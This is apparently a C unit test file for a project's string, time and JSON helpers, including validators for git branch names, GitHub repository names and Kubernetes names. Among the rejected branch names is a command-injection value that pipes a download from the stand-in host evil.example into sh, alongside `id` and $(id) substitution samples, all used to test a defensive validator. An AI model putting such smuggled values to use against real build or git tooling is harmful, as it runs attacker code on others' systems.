/*
 * test_str.c - unit tests for string helpers (src/base/str.c) and the JSON
 * path accessors (src/json/json.c).
 */
/* cmocka.h needs these headers before it */
/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
/* clang-format on */
#include "base/clock.h"
#include "base/str.h"

#include "json/json.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static void
test_str_ct_equal_compares_content_and_length(void **state)
{
	assert_true(hl_str_ct_equal("abc", 3, "abc", 3));
	assert_false(hl_str_ct_equal("abc", 3, "abd", 3));
	assert_false(hl_str_ct_equal("abc", 3, "abcd", 4));
	assert_true(hl_str_ct_equal("", 0, "", 0));
}

static void
test_str_split_list_trims_and_drops_empty(void **state)
{
	size_t n = 0;
	char **l = hl_str_split_list(" a , b,,c ,", &n);

	assert_non_null(l);
	assert_int_equal(n, 3);
	assert_string_equal(l[0], "a");
	assert_string_equal(l[1], "b");
	assert_string_equal(l[2], "c");
	assert_null(l[3]);
	hl_str_list_free(l);
}

static void
test_str_label_value_sanitises(void **state)
{
	char out[64];
	char longin[200];

	hl_str_label_value(out, "feature/new-thing");
	assert_string_equal(out, "feature-new-thing");
	hl_str_label_value(out, "-_weird branch!_-");
	assert_string_equal(out, "weird-branch");
	memset(longin, 'a', sizeof(longin) - 1);
	longin[sizeof(longin) - 1] = '\0';
	hl_str_label_value(out, longin);
	assert_int_equal(strlen(out), 63);
	hl_str_label_value(out, "");
	assert_string_equal(out, "");
}

static void
test_str_hex_encodes(void **state)
{
	const unsigned char in[] = { 0x00, 0xab, 0xff };
	char out[7];

	hl_str_hex(out, in, 3);
	assert_string_equal(out, "00abff");
}

static void
test_time_rfc3339_round_trip(void **state)
{
	char s[40];
	int64_t t = hl_time_parse_rfc3339("2025-01-15T10:30:00Z");

	assert_int_equal(t, 1736937000000LL);
	hl_time_rfc3339(s, sizeof(s), t + 5);
	assert_string_equal(s, "2025-01-15T10:30:00.005Z");
	/* the same second again (kept per thread), the next, and another day */
	hl_time_rfc3339(s, sizeof(s), t + 987);
	assert_string_equal(s, "2025-01-15T10:30:00.987Z");
	hl_time_rfc3339(s, sizeof(s), t + 1040);
	assert_string_equal(s, "2025-01-15T10:30:01.040Z");
	hl_time_rfc3339(s, sizeof(s), 951782400000LL + 59999);
	assert_string_equal(s, "2000-02-29T00:00:59.999Z");
	hl_time_rfc3339(s, sizeof(s), 0);
	assert_string_equal(s, "1970-01-01T00:00:00.000Z");
	/* a short buffer truncates as snprintf would */
	hl_time_rfc3339(s, 11, t + 5);
	assert_string_equal(s, "2025-01-15");
	hl_time_rfc3339(s, 24, t + 5);
	assert_string_equal(s, "2025-01-15T10:30:00.005");
	assert_int_equal(hl_time_parse_rfc3339("2025-01-15T12:30:00+02:00"), t);
	assert_int_equal(hl_time_parse_rfc3339("yesterday"), -1);
}

/* A deadline is now plus ms, its nanoseconds always under a second. */
static void
test_time_deadline_is_normalised(void **state)
{
	static const int64_t ms[] = { 0, 1, 999, 1000, 1999, 2500, 86400001 };
	struct timespec before, ts, after;
	int64_t t;
	size_t i;

	for (i = 0; i < sizeof(ms) / sizeof(ms[0]); i++) {
		clock_gettime(CLOCK_MONOTONIC, &before);
		hl_time_deadline(&ts, CLOCK_MONOTONIC, ms[i]);
		clock_gettime(CLOCK_MONOTONIC, &after);
		assert_true(ts.tv_nsec >= 0 && ts.tv_nsec < 1000000000L);
		t = (int64_t)ts.tv_sec * 1000000000LL + ts.tv_nsec;
		assert_true(t >= (int64_t)before.tv_sec * 1000000000LL + before.tv_nsec +
		                         ms[i] * 1000000LL);
		assert_true(t <= (int64_t)after.tv_sec * 1000000000LL + after.tv_nsec +
		                         ms[i] * 1000000LL);
	}
}

static void
test_json_path_reads_nested_values(void **state)
{
	const char *text = "{\"a\":{\"b\":[{\"c\":\"x\"},{\"c\":7}]},\"n\":\"42\",\"t\":true}";
	struct hl_err err = HL_ERR_INIT;
	json_t *root = NULL;

	assert_int_equal(hl_json_parse(&root, text, strlen(text), &err), 0);
	assert_string_equal(hl_json_str(root, "a.b[0].c"), "x");
	assert_int_equal(hl_json_int(root, "a.b[1].c", -1), 7);
	assert_int_equal(hl_json_int(root, "n", -1), 42);
	assert_null(hl_json_str(root, "a.b[1].c"));
	assert_null(hl_json_str(root, "a.missing.c"));
	assert_int_equal(hl_json_int(root, "a.b[9].c", -1), -1);
	assert_true(hl_json_bool(root, "t", false));
	json_decref(root);
}

static void
test_json_parse_error_names_position(void **state)
{
	struct hl_err err = HL_ERR_INIT;
	json_t *root = NULL;

	assert_int_equal(hl_json_parse(&root, "{\"a\":\n  tru}", 12, &err), -HL_EPARSE);
	assert_non_null(strstr(err.msg, "line 2"));
	assert_null(root);
}

/* Terminal-safe text: C0, DEL and C1 (UTF-8) become '?'; a cut never
 * leaves a character incomplete. */
static void
test_str_terminal_safe(void **state)
{
	char out[8];

	(void)state;
	assert_string_equal(hl_str_terminal_safe(out, sizeof(out), "a\x1b]0\x7f"), "a?]0?");
	assert_string_equal(hl_str_terminal_safe(out, sizeof(out), "x\xc2\x9by"), "x?y");
	assert_string_equal(hl_str_terminal_safe(out, sizeof(out), "\xc3\xa9t\xc3\xa9"),
	                    "\xc3\xa9t\xc3\xa9");
	/* 7 bytes fit: "abcde" and half of a 3-byte character are cut to "abcde" */
	assert_string_equal(hl_str_terminal_safe(out, sizeof(out), "abcde\xe2\x82\xac"), "abcde");
	assert_string_equal(hl_str_terminal_safe(out, sizeof(out), "abcd\xe2\x82\xacz"),
	                    "abcd\xe2\x82\xac");
}

static void
test_str_branch_safe(void **state)
{
	static const char *const good[] = { "main",
		                            "feat/x",
		                            "release/1.2",
		                            "fix/clippy-01234567",
		                            "dependabot/npm_and_yarn/lodash-4.17.21",
		                            "a+b",
		                            "caf\xc3\xa9" };
	static const char *const bad[] = { "",
		                           "-x",
		                           ".x",
		                           "/x",
		                           "x/",
		                           "x.",
		                           "x.lock",
		                           "a.lock/b",
		                           "a..b",
		                           "a//b",
		                           "a/.b",
		                           "zz\";curl${IFS}-sSfL${IFS}evil.example|sh;#",
		                           "a b",
		                           "a`id`",
		                           "a$(id)",
		                           "a;b",
		                           "a|b",
		                           "a&b",
		                           "a'b",
		                           "a~1",
		                           "a^",
		                           "a:b",
		                           "a?",
		                           "a*",
		                           "a[1]",
		                           "a\\b",
		                           "a@{1}",
		                           "a\nb",
		                           "a\x7f",
		                           "bad\xc3",
		                           "a#b",
		                           "a\xc2\x85"
		                           "b",
		                           "main\xe2\x80\xae",
		                           "a\xe2\x80\x8b"
		                           "b",
		                           "a\xe2\x81\xa0"
		                           "b",
		                           "\xef\xbb\xbf"
		                           "main" };
	char big[1100];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		assert_true(hl_str_branch_safe(good[i]));
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_false(hl_str_branch_safe(bad[i]));
	assert_false(hl_str_branch_safe(NULL));
	memset(big, 'b', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_false(hl_str_branch_safe(big));
	big[1024] = '\0';
	assert_true(hl_str_branch_safe(big));
}

static void
test_str_github_repo_valid_follows_github(void **state)
{
	char owner40[64], repo101[128], name[256];

	(void)state;
	assert_true(hl_str_github_repo_valid("acme/widgets"));
	assert_true(hl_str_github_repo_valid("a/b"));
	assert_true(hl_str_github_repo_valid("Acme-Corp/.github"));
	assert_true(hl_str_github_repo_valid("o/..x"));
	assert_true(hl_str_github_repo_valid("o/x_y.z-w"));
	assert_false(hl_str_github_repo_valid(NULL));
	assert_false(hl_str_github_repo_valid(""));
	assert_false(hl_str_github_repo_valid("acme"));
	assert_false(hl_str_github_repo_valid("acme/x/y"));
	assert_false(hl_str_github_repo_valid("acme/."));
	assert_false(hl_str_github_repo_valid("acme/.."));
	/* an Enterprise Managed User's login; older accounts' hyphens */
	assert_true(hl_str_github_repo_valid("octocat_acme/x"));
	assert_true(hl_str_github_repo_valid("acme-/x"));
	assert_true(hl_str_github_repo_valid("ac--me/x"));
	assert_false(hl_str_github_repo_valid("-acme/x"));
	assert_false(hl_str_github_repo_valid("_acme/x"));
	assert_false(hl_str_github_repo_valid("ac%5fme/x"));
	assert_false(hl_str_github_repo_valid("ac.me/x"));
	assert_false(hl_str_github_repo_valid("acme/x#"));
	assert_false(hl_str_github_repo_valid("acme/x%2e"));
	assert_false(hl_str_github_repo_valid("acme/\xc3\xa9"));
	memset(owner40, 'a', 40);
	owner40[40] = '\0';
	snprintf(name, sizeof(name), "%s/x", owner40);
	assert_false(hl_str_github_repo_valid(name));
	snprintf(name, sizeof(name), "%s/x", owner40 + 1);
	assert_true(hl_str_github_repo_valid(name));
	memset(repo101, 'r', 101);
	repo101[101] = '\0';
	snprintf(name, sizeof(name), "o/%s", repo101);
	assert_false(hl_str_github_repo_valid(name));
	snprintf(name, sizeof(name), "o/%s", repo101 + 1);
	assert_true(hl_str_github_repo_valid(name));
}

static void
test_str_k8s_names_follow_dns1123(void **state)
{
	char label64[80];

	(void)state;
	assert_true(hl_str_k8s_label_valid("cto"));
	assert_true(hl_str_k8s_label_valid("kube-system"));
	assert_true(hl_str_k8s_label_valid("a1"));
	assert_false(hl_str_k8s_label_valid(NULL));
	assert_false(hl_str_k8s_label_valid(""));
	assert_false(hl_str_k8s_label_valid(".."));
	assert_false(hl_str_k8s_label_valid("."));
	assert_false(hl_str_k8s_label_valid("Kube"));
	assert_false(hl_str_k8s_label_valid("-a"));
	assert_false(hl_str_k8s_label_valid("a-"));
	assert_false(hl_str_k8s_label_valid("a.b"));
	assert_false(hl_str_k8s_label_valid("a/b"));
	memset(label64, 'a', 64);
	label64[64] = '\0';
	assert_false(hl_str_k8s_label_valid(label64));
	assert_true(hl_str_k8s_label_valid(label64 + 1));
	assert_true(hl_str_k8s_subdomain_valid("web-7d9f8-abcde"));
	assert_true(hl_str_k8s_subdomain_valid("a.b-c.d"));
	assert_false(hl_str_k8s_subdomain_valid(".."));
	assert_false(hl_str_k8s_subdomain_valid("a..b"));
	assert_false(hl_str_k8s_subdomain_valid("a/b"));
	assert_false(hl_str_k8s_subdomain_valid("a."));
	assert_false(hl_str_k8s_subdomain_valid("A"));
	assert_false(hl_str_k8s_subdomain_valid(""));
	/* Kubernetes limits the whole name (253), not its parts: a pod may be
	 * named by one 64-character part, or 253 characters without a dot */
	assert_true(hl_str_k8s_subdomain_valid(label64));
	{
		char name[255];

		memset(name, 'p', 254);
		name[254] = '\0';
		assert_false(hl_str_k8s_subdomain_valid(name));
		name[253] = '\0';
		assert_true(hl_str_k8s_subdomain_valid(name));
		name[252] = '-';
		assert_false(hl_str_k8s_subdomain_valid(name));
	}
}

static void
test_utf8_valid_len_stops_at_the_first_bad_byte(void **state)
{
	(void)state;
	assert_int_equal(hl_utf8_valid_len("", 0), 0);
	assert_int_equal(hl_utf8_valid_len("abc", 3), 3);
	assert_int_equal(hl_utf8_valid_len("x\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80", 10), 10);
	/* a character cut by a bounded copy */
	assert_int_equal(hl_utf8_valid_len("ab\xc3", 3), 2);
	assert_int_equal(hl_utf8_valid_len("ab\xe2\x82", 4), 2);
	assert_int_equal(hl_utf8_valid_len("ab\xf0\x9f\x98", 5), 2);
	/* stray continuation, overlong forms, surrogates, above U+10FFFF */
	assert_int_equal(hl_utf8_valid_len("a\x80"
	                                   "b",
	                                   3),
	                 1);
	assert_int_equal(hl_utf8_valid_len("a\xc0\xaf"
	                                   "b",
	                                   4),
	                 1);
	assert_int_equal(hl_utf8_valid_len("a\xe0\x80\xaf"
	                                   "b",
	                                   5),
	                 1);
	assert_int_equal(hl_utf8_valid_len("a\xed\xa0\x80"
	                                   "b",
	                                   5),
	                 1);
	assert_int_equal(hl_utf8_valid_len("a\xf4\x90\x80\x80", 5), 1);
	assert_int_equal(hl_utf8_valid_len("a\xff"
	                                   "b",
	                                   3),
	                 1);
	assert_int_equal(hl_utf8_valid_len("a\xc3(", 3), 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_str_ct_equal_compares_content_and_length),
		cmocka_unit_test(test_str_split_list_trims_and_drops_empty),
		cmocka_unit_test(test_str_label_value_sanitises),
		cmocka_unit_test(test_str_branch_safe),
		cmocka_unit_test(test_str_github_repo_valid_follows_github),
		cmocka_unit_test(test_str_terminal_safe),
		cmocka_unit_test(test_str_k8s_names_follow_dns1123),
		cmocka_unit_test(test_str_hex_encodes),
		cmocka_unit_test(test_utf8_valid_len_stops_at_the_first_bad_byte),
		cmocka_unit_test(test_time_rfc3339_round_trip),
		cmocka_unit_test(test_time_deadline_is_normalised),
		cmocka_unit_test(test_json_path_reads_nested_values),
		cmocka_unit_test(test_json_parse_error_names_position),
	};
	return cmocka_run_group_tests_name("str", tests, NULL, NULL);
}
